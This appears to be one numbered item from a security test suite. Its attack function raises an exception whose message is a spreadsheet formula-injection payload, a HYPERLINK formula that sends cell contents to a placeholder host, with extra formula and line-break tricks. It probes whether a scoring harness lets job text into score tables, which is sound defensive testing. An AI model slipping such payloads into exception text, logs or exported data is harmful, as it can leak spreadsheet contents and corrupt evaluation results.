"""
number = 70
family = "integrity"
what = "raise an exception whose text a spreadsheet would compute"
stopped_by = ["no text of a job enters a table of scores"]
verdicts = {full = ["raised"], contained = ["raised"], limited = ["raised"]}
"""


def attack(targets: dict) -> str:
    raise ValueError('=HYPERLINK("https://example.invalid/?"&A1,"100")\n+1\n-1\n@SUM(1)\t=1\r\n"')
